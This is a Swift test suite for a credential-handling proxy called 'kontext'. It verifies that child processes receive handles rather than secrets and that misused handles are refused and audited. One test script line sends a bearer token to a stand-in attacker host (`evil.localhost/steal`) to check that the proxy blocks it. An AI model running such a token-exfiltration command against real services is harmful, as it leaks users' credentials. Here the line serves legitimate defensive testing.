import Crypto
import Foundation
import KontextTestSupport
import Testing

/// `kontext run --proxy` and `start --proxy` end to end: the real keyring and embedded
/// broker, the built binary's proxy, a loopback HTTPS server with a test CA (trusted through
/// KONTEXT_CA_BUNDLE), and real clients (curl, Python's urllib and requests) in the child.
@Suite(.enabled(if: TestSupport.hasSessionBus, "needs dbus-run-session and gnome-keyring (scripts/test sets them up)"))
struct ProxyCLITests {
    let tag = String(UUID().uuidString.prefix(6)).lowercased()

    func digest(_ text: String) -> String {
        SHA256.hash(data: Data(text.utf8)).map { String(format: "%02x", $0) }.joined()
    }

    /// A user with a credential in the keyring, hosts bound to it in hosts.toml, an env file
    /// naming it, and `evil.localhost` bound to another service.
    func user(_ label: String, secret: String) throws -> (Sandbox, String) {
        let sandbox = Sandbox(label)
        let service = "gh-\(tag)"
        #expect(try sandbox.kontext(["provider", "add", service], stdin: secret + "\n").status == 0)
        let config = sandbox.home.appendingPathComponent(".config/kontext")
        try FileManager.default.createDirectory(at: config, withIntermediateDirectories: true)
        try """
            [[service]]
            name = "\(service)"
            hosts = ["api.github.localhost"]

            [[service]]
            name = "other-\(tag)"
            hosts = ["evil.localhost"]
            """.write(to: config.appendingPathComponent("hosts.toml"), atomically: true, encoding: .utf8)
        sandbox.write(".env.kontext", "GITHUB_TOKEN=<<kontext:\(service)>>\nPLAIN=literal\n")
        return (sandbox, service)
    }

    @Test func runProxyGivesTheChildAHandleAndTheServerTheCredential() throws {
        let ca = try TestCA()
        let upstream = try Upstream(ca: ca)
        defer { upstream.stop() }
        let secret = TestSupport.secret("proxy-cli")
        let (sandbox, service) = try user("proxy-run", secret: secret)
        let port = upstream.port
        let script = """
            set -e
            printf '%s' "$GITHUB_TOKEN" > handle.txt
            env > env.txt
            curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.localhost:\(port)/user; echo
            curl -sS -o /dev/null -w '%{http_code}\\n' -H "Authorization: Bearer $GITHUB_TOKEN" https://evil.localhost:\(port)/steal
            python3 -c 'import os, urllib.request as u; print(u.urlopen(u.Request("https://api.github.localhost:\(port)/urllib", headers={"Authorization": "token " + os.environ["GITHUB_TOKEN"]})).status)'
            python3 -c 'import os, requests; print(requests.get("https://api.github.localhost:\(port)/requests", auth=("x-access-token", os.environ["GITHUB_TOKEN"])).status_code)'
            """
        let result = try sandbox.kontext(["run", "--proxy", "--", "sh", "-c", script],
                                         environment: ["KONTEXT_CA_BUNDLE": ca.caFile])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stdout == "{\"ok\": true}\n403\n200\n200\n", "\(result.stdout) \(result.stderr)")
        #expect(result.stderr.contains("kontext: proxy: refused GET evil.localhost/steal: a \(service) handle was sent to evil.localhost"))

        let handle = try String(contentsOf: sandbox.workingDirectory.appendingPathComponent("handle.txt"), encoding: .utf8)
        #expect(handle.hasPrefix("kxh_") && handle.count >= 36)
        let env = try String(contentsOf: sandbox.workingDirectory.appendingPathComponent("env.txt"), encoding: .utf8)
        let lines = Set(env.split(separator: "\n").map(String.init))
        #expect(lines.contains("GITHUB_TOKEN=\(handle)"))
        #expect(lines.contains("PLAIN=literal"))
        #expect(lines.contains("NO_PROXY=127.0.0.1,::1"))
        let proxyURL = try #require(lines.first { $0.hasPrefix("HTTPS_PROXY=http://127.0.0.1:") })
        #expect(lines.contains("http_proxy=" + proxyURL.dropFirst("HTTPS_PROXY=".count)))
        let bundle = try #require(lines.first { $0.hasPrefix("SSL_CERT_FILE=") }).dropFirst("SSL_CERT_FILE=".count)
        for name in ["NODE_EXTRA_CA_CERTS", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "GIT_SSL_CAINFO"] {
            #expect(lines.contains("\(name)=\(bundle)"))
        }
        // The CA bundle lived in the private session directory, gone with the session.
        #expect(!FileManager.default.fileExists(atPath: String(bundle)))

        let seen = upstream.requests()
        #expect(seen.map { $0["path"] as? String } == ["/user", "/urllib", "/requests"])
        #expect(seen.map { $0["authorization_sha256"] as? String } == [
            digest("Bearer \(secret)"), digest("token \(secret)"),
            digest("Basic " + Data("x-access-token:\(secret)".utf8).base64EncodedString()),
        ])

        let export = try sandbox.kontext(["audit", "export", "--format", "jsonl"])
        let egress = export.stdout.split(separator: "\n").filter { $0.contains("\"event\":\"egress\"") }
        #expect(egress.count == 4, "\(export.stdout)")
        #expect(egress.filter { $0.contains("\"rule\":\"builtin:handle-misuse\"") }.count == 1)
        #expect(egress.allSatisfy { $0.contains("\"tool_name\":\"\(service)\"") && $0.contains("\"agent\":\"run\"") })
        #expect(!export.stdout.contains(secret) && !export.stdout.contains(handle))
        #expect(!result.stdout.contains(secret) && !result.stderr.contains(secret))

        let listed = try sandbox.kontext(["env"])
        #expect(listed.stdout.contains("WITH --proxy"))
        #expect(listed.stdout.split(separator: "\n").contains { $0.hasPrefix("GITHUB_TOKEN") && $0.hasSuffix("handle") })
    }

    @Test func startProxyAndKontextProxyVariable() throws {
        let ca = try TestCA()
        let upstream = try Upstream(ca: ca)
        defer { upstream.stop() }
        let secret = TestSupport.secret("proxy-start")
        let (sandbox, _) = try user("proxy-start", secret: secret)
        let script = "curl -sS -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.localhost:\(upstream.port)/user"
        let result = try sandbox.kontext(["start", "--agent-command", "/bin/sh", "--", "-c", script],
                                         environment: ["KONTEXT_CA_BUNDLE": ca.caFile, "KONTEXT_PROXY": "1"])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stdout == "{\"ok\": true}")
        #expect(upstream.requests().first?["authorization_sha256"] as? String == digest("Bearer \(secret)"))
    }
}
